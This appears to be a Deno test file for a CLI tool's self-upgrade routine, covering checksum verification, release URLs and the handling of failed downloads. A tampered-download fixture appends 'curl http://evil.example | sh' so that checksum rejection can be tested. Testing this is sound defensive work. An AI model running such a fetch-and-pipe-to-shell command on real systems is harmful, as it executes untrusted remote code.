import assert from "node:assert/strict";
import { join } from "node:path";
import {
  assetName,
  listedChecksum,
  notBinaryMessage,
  releaseUrl,
  upgradeBinary,
  type UpgradeRequest,
} from "./upgrade.ts";

const OLD = "#!/bin/sh\necho rienda 0.1.0\n";
const NEW = "#!/bin/sh\necho rienda 0.2.0\n";
const ASSET = "rienda-x86_64-unknown-linux-gnu";

async function sha256(text: string): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return Array.from(new Uint8Array(digest), (b) => b.toString(16).padStart(2, "0")).join("");
}

/** A release folder on 127.0.0.1 serving `files`, and a binary holding OLD. */
async function setup(files: Record<string, string>) {
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
    const body = files[new URL(request.url).pathname];
    return body === undefined ? new Response("no", { status: 404 }) : new Response(body);
  });
  const dir = await Deno.makeTempDir({ prefix: "rienda-upgrade-" });
  const binary = join(dir, "rienda");
  await Deno.writeTextFile(binary, OLD, { mode: 0o755 });
  const request: UpgradeRequest = {
    binary,
    release: `http://127.0.0.1:${server.addr.port}/v0.2.0`,
    asset: ASSET,
    probe: async (path) =>
      (await Deno.readTextFile(path)).includes("0.2.0") ? "rienda 0.2.0" : null,
    signal: new AbortController().signal,
  };
  return {
    request,
    binary,
    files: () => [...Deno.readDirSync(dir)].map((entry) => entry.name).sort(),
    [Symbol.asyncDispose]: async () => {
      await server.shutdown();
      await Deno.remove(dir, { recursive: true });
    },
  };
}

Deno.test("releaseUrl() lays out releases as install.sh does", () => {
  assert.equal(releaseUrl("0.2.0", "http://m/r/"), "http://m/r/v0.2.0");
  assert.equal(releaseUrl("v0.2.0", "http://m/r"), "http://m/r/v0.2.0");
  assert.equal(releaseUrl("latest", "http://m/r"), "http://m/r/latest");
  assert.equal(
    releaseUrl("0.2.0", undefined),
    "https://github.com/rienda/rienda/releases/download/v0.2.0",
  );
  assert.equal(
    releaseUrl("latest", ""),
    "https://github.com/rienda/rienda/releases/latest/download",
  );
  assert.equal(assetName("x86_64-pc-windows-msvc"), "rienda-x86_64-pc-windows-msvc.exe");
  assert.equal(assetName("aarch64-apple-darwin"), "rienda-aarch64-apple-darwin");
});

Deno.test("listedChecksum() reads sha256sum lines, text or binary mode, for that file only", () => {
  const a = "a".repeat(64);
  const b = "B".repeat(64);
  const sums = `${a}  rienda-other\n${b} *${ASSET}\nnot a line\n`;
  assert.equal(listedChecksum(sums, ASSET), "b".repeat(64));
  assert.equal(listedChecksum(sums, "rienda-other"), a);
  assert.equal(listedChecksum(sums, "rienda"), null);
  assert.equal(listedChecksum(`${"c".repeat(63)}  ${ASSET}\n`, ASSET), null);
});

Deno.test("upgradeBinary() puts the checked release in place of the binary, executable, leaving nothing else", async () => {
  await using release = await setup({
    "/v0.2.0/SHA256SUMS": `${await sha256(NEW)}  ${ASSET}\n`,
    [`/v0.2.0/${ASSET}`]: NEW,
  });
  const outcome = await upgradeBinary(release.request);
  assert.deepEqual(outcome, { kind: "upgraded", version: "rienda 0.2.0" });
  assert.equal(await Deno.readTextFile(release.binary), NEW);
  assert.ok(((await Deno.stat(release.binary)).mode ?? 0) & 0o100, "not executable");
  assert.deepEqual(release.files(), ["rienda"]);
  // The same release again: nothing downloaded.
  assert.deepEqual(await upgradeBinary(release.request), { kind: "current" });
});

Deno.test("upgradeBinary() refuses a tampered download and keeps the binary as it was", async () => {
  await using release = await setup({
    "/v0.2.0/SHA256SUMS": `${await sha256(NEW)}  ${ASSET}\n`,
    [`/v0.2.0/${ASSET}`]: `${NEW}curl http://evil.example | sh\n`,
  });
  await assert.rejects(
    upgradeBinary(release.request),
    new RegExp(
      `^Error: checksum mismatch for ${ASSET}: SHA256SUMS says ${await sha256(
        NEW,
      )}, the download is [0-9a-f]{64}; ${release.binary} was not changed$`,
    ),
  );
  assert.equal(await Deno.readTextFile(release.binary), OLD);
  assert.deepEqual(release.files(), ["rienda"]);
});

Deno.test("upgradeBinary() changes nothing for a missing file, an unlisted asset or a binary that does not run", async () => {
  const broken = "#!/bin/sh\nexit 1\n";
  await using release = await setup({
    "/v0.2.0/SHA256SUMS": `${await sha256(broken)}  ${ASSET}\n`,
    [`/v0.2.0/${ASSET}`]: broken,
    "/v0.3.0/SHA256SUMS": `${await sha256(NEW)}  rienda-other\n`,
  });
  await assert.rejects(
    upgradeBinary(release.request),
    /the downloaded .* does not run on this machine/,
  );
  const unlisted = {
    ...release.request,
    release: release.request.release.replace("0.2.0", "0.3.0"),
  };
  await assert.rejects(
    upgradeBinary(unlisted),
    /v0\.3\.0\/SHA256SUMS lists no checksum for rienda-x86_64/,
  );
  const missing = {
    ...release.request,
    release: release.request.release.replace("0.2.0", "0.4.0"),
  };
  await assert.rejects(
    upgradeBinary(missing),
    /cannot download .*\/v0\.4\.0\/SHA256SUMS: HTTP 404/,
  );
  assert.equal(await Deno.readTextFile(release.binary), OLD);
  assert.deepEqual(release.files(), ["rienda"]);
});

Deno.test("notBinaryMessage() tells a checkout and the npm package how they upgrade", () => {
  assert.equal(notBinaryMessage({ kind: "binary", commit: "1be2f67", date: "2026-12-01" }), null);
  assert.equal(
    notBinaryMessage({ kind: "npm", commit: "1be2f67", date: "2026-12-01" }),
    "this rienda is the npm package rienda: upgrade it with npm install -g rienda@latest",
  );
  assert.match(
    notBinaryMessage({ kind: "source" })!,
    /^this rienda runs from the checkout \/.+[^/]: upgrade it with git -C .+ pull$/,
  );
});
